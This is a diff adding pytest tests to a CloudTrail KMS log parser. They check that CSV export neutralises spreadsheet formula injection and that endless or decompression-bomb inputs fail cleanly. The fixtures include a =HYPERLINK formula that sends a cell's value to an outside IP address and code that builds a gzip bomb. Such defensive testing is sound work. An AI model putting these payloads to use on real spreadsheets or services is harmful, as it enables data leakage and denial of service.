@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import gzip
 import io
 import json
 from pathlib import Path
@@ -103,3 +104,64 @@ def test_malformed_records_do_not_change_the_exit_code(
     summary = json.loads(capsys.readouterr().out)
     assert (summary["kms_records"], summary["skipped_malformed"]) == (0, 2)
     assert summary["first_event"] is None
+
+
+def _kms_record(context: dict[str, str], user_agent: str) -> dict:
+    key = "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
+    return {
+        "eventVersion": "1.11",
+        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/Alice"},
+        "eventTime": "2026-02-10T09:00:04Z",
+        "eventSource": "kms.amazonaws.com",
+        "eventName": "GenerateDataKey",
+        "awsRegion": "us-east-1",
+        "userAgent": user_agent,
+        "requestParameters": {"keyId": key, "encryptionContext": context},
+        "eventID": "e7c1f2d4-0000-4000-9000-00000000feed",
+        "resources": [{"ARN": key, "type": "AWS::KMS::Key"}],
+        "recipientAccountId": "111122223333",
+    }
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_stay_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    link = '=HYPERLINK("http://198.51.100.7/?d="&A1,"open")'
+    context = {"note": link, "plus": "+1+2", "minus": "-3", "tab": "\tx", "plain": "churn"}
+    path = tmp_path / "trail.json"
+    path.write_text(json.dumps({"Records": [_kms_record(context, "@SUM(1,2)")]}))
+
+    assert main(["usage", "parse", str(path), "--csv"]) == 0
+    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
+    assert row["ctx.note"] == f"'{link}"
+    assert (row["ctx.plus"], row["ctx.minus"], row["ctx.tab"]) == ("'+1+2", "'-3", "'\tx")
+    assert row["ctx.plain"] == "churn"
+    assert row["user_agent"] == "'@SUM(1,2)"
+    assert row["event_time"] == "2026-02-10T09:00:04Z"
+    assert json.loads(row["encryption_context"]) == context
+
+    # Only CSV is for spreadsheets: JSON keeps the values as CloudTrail wrote them.
+    assert main(["usage", "parse", str(path), "--json"]) == 0
+    (plain,) = json.loads(capsys.readouterr().out)
+    assert plain["user_agent"] == "@SUM(1,2)" and plain["encryption_context"]["note"] == link
+
+
+def test_endless_or_oversized_input_fails_in_one_line(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert main(["usage", "parse", "/dev/zero", "--summary"]) == 2
+    captured = capsys.readouterr()
+    assert captured.out == "" and captured.err.count("\n") == 1
+    assert captured.err.startswith("emr-cmk: error: /dev/zero: is larger than 512 MiB")
+
+    # A small gzip file that unpacks to more than a log file holds.
+    bomb = tmp_path / "bomb.json.gz"
+    with gzip.open(bomb, "wb", compresslevel=9) as packed:
+        chunk = b" " * (1 << 20)
+        for _ in range(513):
+            packed.write(chunk)
+    assert bomb.stat().st_size < 1 << 20
+    assert main(["usage", "parse", str(bomb), "--summary"]) == 2
+    captured = capsys.readouterr()
+    assert captured.err.count("\n") == 1
+    assert f"{bomb}: unpacks to more than 512 MiB" in captured.err
